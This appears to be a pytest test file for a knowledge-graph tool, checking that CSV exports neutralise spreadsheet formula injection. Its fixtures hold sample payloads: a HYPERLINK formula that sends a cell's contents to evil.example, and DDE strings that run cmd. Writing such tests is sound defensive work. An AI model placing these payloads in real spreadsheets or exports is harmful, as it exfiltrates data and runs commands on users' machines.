"""Hostile input files (issue 18): what a report, a data file or a folder handed to the user can do,
and what it must not.

- CSV meant for a spreadsheet never holds a live formula, and still reads back exactly (finding 7).
"""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest
from click.testing import CliRunner

from resilience_kg.cli import main
from resilience_kg.graph.csv_reader import read_table
from resilience_kg.tabulate import FORMULA_STARTS, from_spreadsheet_cell, spreadsheet_cell, spreadsheet_csv

# --- finding 7: formulas in the CSV files meant for a spreadsheet --------------------------------

#: Cells a spreadsheet runs: a link that sends a neighbouring cell away, DDE, a function, a
#: formula behind a minus sign, one after a tab.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]
REPORT = """# Rapat Koordinasi Ketahanan Kota

Jakarta, 12 Maret 2024

Peserta:
- {0} Badan Penanggulangan Bencana Daerah (BPBD)
- {1} Dinas Sumber Daya Air
- {2} Palang Merah Indonesia (PMI)
- {3} Yayasan Kota Kita

Isu yang dibahas:
- banjir rob di Jakarta Utara
""".format(*FORMULAS)
_NUMBER = __import__("re").compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def live_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def extract(runner: CliRunner, report: Path, out: Path) -> None:
    result = runner.invoke(main, ["extract", str(report), "-o", str(out)])
    assert result.exit_code == 0, result.output


@pytest.fixture
def drafts(tmp_path: Path, runner: CliRunner) -> Path:
    report = tmp_path / "rapat.md"
    report.write_text(REPORT, encoding="utf-8")
    extract(runner, report, tmp_path / "drafts")
    return tmp_path / "drafts"


def test_the_drafts_hold_no_live_formula(drafts: Path) -> None:
    for name in ("elements.csv", "connections.csv", "sources.csv"):
        text = (drafts / name).read_text(encoding="utf-8")
        assert live_cells(text) == [], name
    # The report's formulas did reach the drafts (as guarded text), or the test proves nothing.
    guarded = cells((drafts / "connections.csv").read_text(encoding="utf-8"))
    for formula in FORMULAS:
        assert any(formula in c and c.startswith("'") for c in guarded), formula


def test_the_drafts_quotes_read_back_exactly(drafts: Path, runner: CliRunner, tmp_path: Path) -> None:
    # The project's reader takes the guard off: every quote is the source text at its offsets.
    text = (drafts / "sources" / "rapat.txt").read_text(encoding="utf-8")
    quotes = []
    for name in ("elements.csv", "connections.csv"):
        for row in read_table(drafts / name).rows:
            if row.get("quote"):
                assert text[int(row.get("start")):int(row.get("end"))] == row.get("quote"), row.location
                quotes.append(row.get("quote"))
    assert any(q.startswith("- " + FORMULAS[0]) for q in quotes)
    # build checks every quote against its offsets (it refuses a quote that moved): it passes, and
    # the graph holds the quote exactly as the report has it.
    result = runner.invoke(main, ["build", "--data", str(drafts), "--include-drafts", "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    from resilience_kg.graph.dataset import load_graph

    kg = load_graph([drafts], include_drafts=True)
    exact = {sol["q"].value for sol in kg.store.query(
        "SELECT ?q { GRAPH ?g { ?s <http://www.w3.org/ns/oa#exact> ?q } }")}
    for formula in FORMULAS:
        assert any(q.startswith(f"- {formula} ") for q in exact), formula


def test_extract_again_keeps_the_drafts_and_their_review_exact(drafts: Path, runner: CliRunner,
                                                              tmp_path: Path) -> None:
    before = {name: (drafts / name).read_bytes() for name in ("elements.csv", "connections.csv", "sources.csv")}
    extract(runner, tmp_path / "rapat.md", drafts)
    assert {name: (drafts / name).read_bytes() for name in before} == before  # no second guard
    # A reviewer accepts a row (as a spreadsheet saves it: without the guard on the quote) and
    # rejects another; a new extraction keeps both reviews, and guards the quote again.
    rows = list(csv.reader(io.StringIO(before["connections.csv"].decode(), newline="")))
    header = rows[0]
    q, s = header.index("quote"), header.index("status")
    rows[1][q] = from_spreadsheet_cell(rows[1][q])
    rows[1][s], rows[2][s] = "accepted", "rejected"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (drafts / "connections.csv").write_text(buf.getvalue(), encoding="utf-8")
    extract(runner, tmp_path / "rapat.md", drafts)
    again = (drafts / "connections.csv").read_text(encoding="utf-8")
    assert live_cells(again) == []
    reread = read_table(drafts / "connections.csv").rows
    assert [r.get("status") for r in reread[:3]] == ["accepted", "rejected", "draft"]
    original = read_table(io_file(tmp_path / "before.csv", before["connections.csv"])).rows
    assert [r.get("quote") for r in reread] == [r.get("quote") for r in original]


def io_file(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


HOSTILE_ELEMENTS = """id,type,label_id,label_en,basis,confidence,note
evil-actor,GovernmentAgency,"=HYPERLINK(""http://evil.example/?d=""&B2,""Klik"")",@SUM(A1:A9),curated,well-attested,x
evil-issue,Issue,+cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0,curated,well-attested,x
"""
HOSTILE_CONNECTIONS = """from,to,type,basis,confidence,note
evil-actor,issue-early-warning-system,worksOn,curated,well-attested,x
"""


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "elements.csv").write_text(HOSTILE_ELEMENTS, encoding="utf-8")
    (folder / "connections.csv").write_text(HOSTILE_CONNECTIONS, encoding="utf-8")
    return folder


@pytest.mark.parametrize(("args", "shown"), [
    (["analyze"], "'@SUM(A1:A9)"),
    (["gaps"], "'-2+3+cmd|' /C calc'!A0"),
    (["connections"], "'@SUM(A1:A9)"),
], ids=["analyze", "gaps", "connections"])
def test_analysis_tables_as_csv_hold_no_live_formula(runner: CliRunner, hostile_data: Path, args: list[str],
                                                     shown: str) -> None:
    result = runner.invoke(main, [*args, "--data", str(hostile_data), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert live_cells(result.stdout) == []
    assert shown in cells(result.stdout)  # the label is there, as text


def test_sparql_csv_results_stay_exact(runner: CliRunner, hostile_data: Path) -> None:
    # The W3C SPARQL CSV results are data for programs, compared value for value: left exact (the
    # README says so; a spreadsheet user asks `analyze` or `query --format table`).
    query = 'SELECT ?l { ?a skos:prefLabel ?l FILTER(STRSTARTS(STR(?a), "https://w3id.org/resilience-kg/id/evil")) }'
    result = runner.invoke(main, ["query", query, "--data", str(hostile_data), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "@SUM(A1:A9)" in cells(result.stdout)


def test_any_text_is_guarded_and_read_back_exactly() -> None:
    # The class, not the given texts: random cells built from the characters that matter.
    rng = random.Random(18)
    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", " ", "1", ".", "e", "a", "|", "!"]
    samples = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8))) for _ in range(20_000)]
    for text in samples:
        guarded = spreadsheet_cell(text)
        assert isinstance(guarded, str)
        assert from_spreadsheet_cell(guarded) == text, repr(text)
        assert not guarded.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(guarded), repr(text)
    written = spreadsheet_csv(["id", "quote"], [[str(i), t] for i, t in enumerate(samples)])
    assert live_cells(written) == []
    read_back = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert [from_spreadsheet_cell(q) for _, q in read_back] == samples
